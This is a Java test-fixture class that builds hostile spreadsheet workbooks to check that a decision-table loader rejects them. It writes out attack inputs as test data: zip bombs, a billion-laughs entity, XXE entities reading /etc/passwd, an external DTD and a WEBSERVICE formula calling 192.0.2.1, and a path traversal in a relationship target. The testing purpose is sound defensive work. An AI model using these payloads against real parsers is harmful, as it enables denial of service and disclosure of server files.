package org.recoveryrules.drools;

import static org.recoveryrules.drools.files.Code.TABLE_TOO_LARGE;
import static org.recoveryrules.drools.files.Code.TABLE_UNREADABLE;
import static org.recoveryrules.drools.files.Code.TABLE_VALUE;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Named;
import org.recoveryrules.drools.files.Code;

/** Attacks by a decision table in a workbook: a zip file with XML in it. */
final class HostileWorkbooks {
    private static final String SHEET = "xl/worksheets/sheet1.xml";
    private static final String WORKBOOK = "xl/workbook.xml";

    private HostileWorkbooks() {}

    /** What makes the bytes of a workbook. */
    private interface Made {
        byte[] bytes() throws IOException;
    }

    static Stream<Named<Attack>> all() {
        return Stream.of(
                workbook("no zip", TABLE_UNREADABLE, () -> new byte[1_000]),
                workbook("nothing", TABLE_UNREADABLE, () -> new byte[0]),
                workbook("half a zip", TABLE_UNREADABLE, () -> Arrays.copyOf(zip(parts()), 700)),
                workbook("a zip that begins elsewhere", TABLE_UNREADABLE, () -> before(new byte[100], zip(parts()))),
                workbook(
                        "a zip that says it is one of several",
                        TABLE_UNREADABLE,
                        () -> before(
                                new byte[] {'P', 'K', '0', '0'},
                                zip(with(SHEET, sheet(row(text("a".repeat(60_000_000)))))))),
                workbook("four gigabytes less than they say", TABLE_UNREADABLE, () -> new byte[4_000_000]),
                workbook(
                        "a zip bomb",
                        TABLE_TOO_LARGE,
                        () -> zip(with(SHEET, sheet(row(text("a".repeat(60_000_000))))))),
                workbook(
                        "a zip bomb beside the table",
                        TABLE_TOO_LARGE,
                        () -> zip(with("xl/media/image1.png", "a".repeat(60_000_000)))),
                workbook("many parts", TABLE_TOO_LARGE, () -> zip(manyParts())),
                workbook(
                        "rows by the million",
                        TABLE_TOO_LARGE,
                        () -> zip(with(SHEET, sheet(noisy("<row/>", 1_200_000))))),
                workbook(
                        "cells by the million",
                        TABLE_TOO_LARGE,
                        () -> zip(with(SHEET, sheet(row(noisy("<c/>", 1_200_000)))))),
                workbook(
                        "cells in EBCDIC",
                        TABLE_TOO_LARGE,
                        () -> zip(with(SHEET, sheet(row(noisy("<c/>", 1_200_000)))), Charset.forName("IBM037"))),
                workbook(
                        "strings by the million",
                        TABLE_TOO_LARGE,
                        () -> zip(with("xl/sharedStrings.xml", noisy("<si/>", 1_200_000)))),
                workbook(
                        "spaces by the million in a cell",
                        TABLE_TOO_LARGE,
                        1,
                        () -> zip(with(SHEET, sheet(row(text(noisy(" ", 1_000_000))))))),
                workbook("one sheet a thousand times", TABLE_TOO_LARGE, () -> zip(sheets(1_000))),
                workbook("one large sheet twenty times", TABLE_TOO_LARGE, () -> zip(largeSheets())),
                workbook(
                        "merged cells by the thousand",
                        TABLE_TOO_LARGE,
                        1_001,
                        () -> zip(with(SHEET, sheet("", merges(2_000))))),
                workbook(
                        "a billion laughs",
                        TABLE_UNREADABLE,
                        () -> zip(with(SHEET, laughs() + sheet(row(text("&z;")))))),
                workbook(
                        "an entity of a file",
                        TABLE_UNREADABLE,
                        () -> zip(with(
                                SHEET,
                                "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>" + sheet(row(text("&b;")))))),
                workbook(
                        "an entity of a server",
                        TABLE_UNREADABLE,
                        () -> zip(with(SHEET, "<!DOCTYPE a SYSTEM \"http://192.0.2.1/hit.dtd\">" + sheet("")))),
                workbook(
                        "an entity in the relations",
                        TABLE_UNREADABLE,
                        () -> zip(with(
                                "_rels/.rels",
                                "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>"
                                        + parts().get("_rels/.rels")))),
                workbook(
                        "an attribute a million times",
                        TABLE_UNREADABLE,
                        () -> zip(with(SHEET, sheet("<row " + attributes(200_000) + "/>")))),
                workbook(
                        "tags within each other",
                        TABLE_UNREADABLE,
                        () -> zip(with(SHEET, sheet(noisy("<row>", 400_000))))),
                workbook(
                        "a formula",
                        TABLE_VALUE,
                        9,
                        () -> zip(with(
                                SHEET,
                                sheet(tableWith("<c r=\"B9\"><f>WEBSERVICE(\"http://192.0.2.1\")</f><v>1</v></c>"))))),
                workbook(
                        "a formula over all",
                        TABLE_VALUE,
                        9,
                        () -> zip(
                                with(
                                        SHEET,
                                        sheet(
                                                tableWith(
                                                        "<c r=\"B9\"><f t=\"shared\" ref=\"B9:B1048576\" si=\"0\">B8+1</f><v>1</v></c>"))))),
                workbook(
                        "an error",
                        TABLE_VALUE,
                        9,
                        () -> zip(with(SHEET, sheet(tableWith("<c r=\"B9\" t=\"e\"><v>#REF!</v></c>"))))),
                workbook(
                        "a string that is not there",
                        TABLE_UNREADABLE,
                        () -> zip(with(SHEET, sheet(row("<c r=\"A1\" t=\"s\"><v>2147483647</v></c>"))))),
                workbook(
                        "a cell that is nowhere",
                        TABLE_UNREADABLE,
                        () -> zip(with(SHEET, sheet(row("<c r=\"ZZZZZZZ99999999999\"><v>1</v></c>"))))),
                workbook(
                        "a part out of the file",
                        TABLE_UNREADABLE,
                        () -> zip(with(
                                "xl/_rels/workbook.xml.rels",
                                parts().get("xl/_rels/workbook.xml.rels")
                                        .replace("worksheets/sheet1.xml", "../../../../etc/passwd")))));
    }

    private static Named<Attack> workbook(String name, Code code, Made made) {
        return workbook(name, code, 0, made);
    }

    private static Named<Attack> workbook(String name, Code code, int line, Made made) {
        Attack.Prepared prepared = temp -> {
            Map<String, byte[]> files = Attack.bytes(Policies.files(Attack.RULE));
            files.put("test/table.xlsx", made.bytes());
            return files;
        };
        return Named.of("a workbook with " + name, new Attack(prepared, code, "test/table.xlsx", line));
    }

    private static byte[] zip(Map<String, String> parts) throws IOException {
        return zip(parts, StandardCharsets.UTF_8);
    }

    private static byte[] zip(Map<String, String> parts, Charset sheet) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, String> part : parts.entrySet()) {
                Charset charset = part.getKey().equals(SHEET) ? sheet : StandardCharsets.UTF_8;
                String head = part.getKey().endsWith("png")
                        ? ""
                        : "<?xml version=\"1.0\" encoding=\"" + charset.name() + "\"?>";
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write((head + part.getValue()).getBytes(charset));
                zip.closeEntry();
            }
        }
        return bytes.toByteArray();
    }

    private static byte[] before(byte[] head, byte[] rest) {
        byte[] bytes = Arrays.copyOf(head, head.length + rest.length);
        System.arraycopy(rest, 0, bytes, head.length, rest.length);
        return bytes;
    }

    /** A text many times, with so much noise that it cannot be packed well: POI refuses what can. */
    private static String noisy(String text, int count) {
        Random random = new Random(1);
        StringBuilder noisy = new StringBuilder();
        for (int i = 0; i < count; i++) {
            noisy.append(text);
            if (i % 500 == 0 && text.startsWith("<")) {
                noisy.append("<!--").append(letters(random, 60)).append("-->");
            } else if (i % 50 == 0) {
                noisy.append(letters(random, 1));
            }
        }
        return noisy.toString();
    }

    private static String letters(Random random, int count) {
        return random.ints(count, 'a', 'z' + 1).mapToObj(Character::toString).collect(Collectors.joining());
    }

    private static String attributes(int count) {
        return IntStream.range(0, count).mapToObj(i -> "a" + i + "=\"\"").collect(Collectors.joining(" "));
    }

    private static String laughs() {
        String laughs = IntStream.range('b', 'z' + 1)
                .mapToObj(i -> "<!ENTITY %c \"%s\">".formatted(i, ("&" + (char) (i - 1) + ";").repeat(10)))
                .collect(Collectors.joining());
        return "<!DOCTYPE worksheet [<!ENTITY a \"ha\">" + laughs + "]>";
    }

    private static String merges(int count) {
        return IntStream.rangeClosed(1, count)
                .mapToObj(i -> "<mergeCell ref=\"A%d:B%d\"/>".formatted(i, i))
                .collect(Collectors.joining("", "<mergeCells>", "</mergeCells>"));
    }

    private static Map<String, String> manyParts() {
        Map<String, String> parts = parts();
        Random random = new Random(1);
        for (int i = 0; i < 40_000; i++) {
            parts.put("xl/media/" + letters(random, 30) + i + ".png", letters(random, 50));
        }
        return parts;
    }

    private static Map<String, String> sheets(int count) {
        String sheets = IntStream.rangeClosed(1, count)
                .mapToObj("<sheet name=\"T%1$d\" sheetId=\"%1$d\" r:id=\"rId1\"/>"::formatted)
                .collect(Collectors.joining("", "<sheets>", "</sheets>"));
        return with(WORKBOOK, parts().get(WORKBOOK).replaceAll("<sheets>.*</sheets>", sheets));
    }

    private static Map<String, String> largeSheets() {
        Map<String, String> parts = sheets(20);
        parts.put(SHEET, sheet(row(text(noisy("a", 2_000_000)))));
        return parts;
    }

    /** A table with some cell as the value of its condition. */
    private static String tableWith(String cell) {
        return row(1, "RuleSet", "test")
                + row(2, "Import", "org.recoveryrules.api.*")
                + row(3, "Variables", "org.recoveryrules.drools.rules.Findings findings")
                + row(4, "RuleTable Hostile")
                + row(5, "NAME", "CONDITION", "ACTION", "METADATA", "METADATA")
                + row(6, "", "Claim", "findings")
                + row(7, "", "compensatedClaims == $param", "ask( $param )", "because( $param )", "source( $param )")
                + row(8, "Rule", "Claims", "Question", "Because", "Source")
                + "<row r=\"9\">" + cells(9, "test.row").get("A") + cell
                + cells(9, "", "", "Question.CAUSE", "so it is", "a test").values().stream()
                        .collect(Collectors.joining())
                + "</row>";
    }

    private static String row(int row, String... texts) {
        return "<row r=\"" + row + "\">" + String.join("", cells(row, texts).values()) + "</row>";
    }

    private static Map<String, String> cells(int row, String... texts) {
        Map<String, String> cells = new LinkedHashMap<>();
        for (int i = 0; i < texts.length; i++) {
            String column = Character.toString('A' + i);
            if (!texts[i].isEmpty()) {
                cells.put(
                        column,
                        "<c r=\"%s%d\" t=\"inlineStr\"><is><t>%s</t></is></c>".formatted(column, row, texts[i]));
            }
        }
        return cells;
    }

    private static String row(String cells) {
        return "<row r=\"1\">" + cells + "</row>";
    }

    private static String text(String text) {
        return "<c r=\"A1\" t=\"inlineStr\"><is><t>" + text + "</t></is></c>";
    }

    private static String sheet(String data) {
        return sheet(data, "");
    }

    private static String sheet(String data, String after) {
        return "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>" + data
                + "</sheetData>" + after + "</worksheet>";
    }

    private static Map<String, String> with(String path, String text) {
        Map<String, String> parts = parts();
        parts.put(path, text);
        return parts;
    }

    /** The parts of a workbook with an empty sheet. */
    private static Map<String, String> parts() {
        UnaryOperator<String> type = name -> "application/vnd.openxmlformats-" + name + "+xml";
        String office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
        String relations = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">";
        Map<String, String> parts = new LinkedHashMap<>();
        parts.put(
                "[Content_Types].xml",
                "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                        + "<Default Extension=\"rels\" ContentType=\"" + type.apply("package.relationships") + "\"/>"
                        + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                        + "<Default Extension=\"png\" ContentType=\"image/png\"/>"
                        + override(WORKBOOK, type.apply("officedocument.spreadsheetml.sheet.main"))
                        + override(SHEET, type.apply("officedocument.spreadsheetml.worksheet"))
                        + override("xl/sharedStrings.xml", type.apply("officedocument.spreadsheetml.sharedStrings"))
                        + "</Types>");
        parts.put(
                "_rels/.rels", relations + relation("rId1", office + "/officeDocument", WORKBOOK) + "</Relationships>");
        parts.put(
                WORKBOOK,
                "<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"" + office
                        + "\"><sheets><sheet name=\"T\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>");
        parts.put(
                "xl/_rels/workbook.xml.rels",
                relations
                        + relation("rId1", office + "/worksheet", "worksheets/sheet1.xml")
                        + relation("rId2", office + "/sharedStrings", "sharedStrings.xml")
                        + "</Relationships>");
        parts.put(SHEET, sheet(""));
        parts.put(
                "xl/sharedStrings.xml",
                "<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"></sst>");
        return parts;
    }

    private static String override(String part, String type) {
        return "<Override PartName=\"/" + part + "\" ContentType=\"" + type + "\"/>";
    }

    private static String relation(String id, String type, String target) {
        return "<Relationship Id=\"" + id + "\" Type=\"" + type + "\" Target=\"" + target + "\"/>";
    }
}
